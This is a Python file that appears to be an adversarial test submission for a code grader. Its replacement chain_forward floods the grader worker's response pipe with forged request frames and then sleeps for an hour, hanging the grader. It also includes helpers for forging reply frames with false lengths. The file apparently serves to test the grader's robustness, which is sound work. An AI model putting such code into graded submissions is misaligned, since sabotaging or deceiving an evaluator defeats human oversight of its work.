# question: forward_vs_reverse
# base: solution
# Class 9 (the grader process itself): a forged reply frame written straight onto the
# worker's response fd; see _attack's docstring.
import io
import json
import os
import struct
import sys

import numpy as np

_RESP = int(sys.argv[1]) if len(sys.argv) > 1 and sys.argv[1].isdigit() else 3


def _raw(data):
    """Bytes straight onto the worker's response fd: a frame of the attacker's making."""
    view = memoryview(data)
    while view:
        view = view[os.write(_RESP, view):]


def _npy(arr, shape=None):
    head = io.BytesIO()
    info = np.lib.format.header_data_from_array_1_0(arr)
    if shape is not None:
        info["shape"] = shape
    np.lib.format.write_array_header_1_0(head, info)
    return head.getvalue() + arr.tobytes()


def _frame(header, blobs=(), claimed=None):
    """``header``: bytes of JSON; ``claimed``: a forged outer length."""
    body = struct.pack("<Q", len(header)) + header + b"".join(struct.pack("<Q", len(b)) + b for b in blobs)
    return struct.pack("<Q", len(body) if claimed is None else claimed) + body


def _reply(value_json, blobs=(), claimed=None):
    header = b'{"msg": {"ok": true, "seconds": 0.0, "value": ' + value_json + b'}, "arrays": ' + \
        str(len(blobs)).encode() + b'}'
    return _frame(header, blobs, claimed)


def _attack():
    """Ask frames in a loop, never reading a reply: the grader writes its replies into a pipe
    nobody drains; then sleep."""
    frame = _frame(b'{"msg": {"op": "ask", "name": "matvec", "args": [{"__nd__": 0}, {"__nd__": 1}]}, "arrays": 2}',
                   [_npy(np.zeros((4096, 1))), _npy(np.zeros(1))])
    for _ in range(64):
        _raw(frame)
    import time
    time.sleep(3600)


_solution_chain_forward = chain_forward


def chain_forward(*args):
    out = _attack()
    return out if out is not None else _solution_chain_forward(*args)
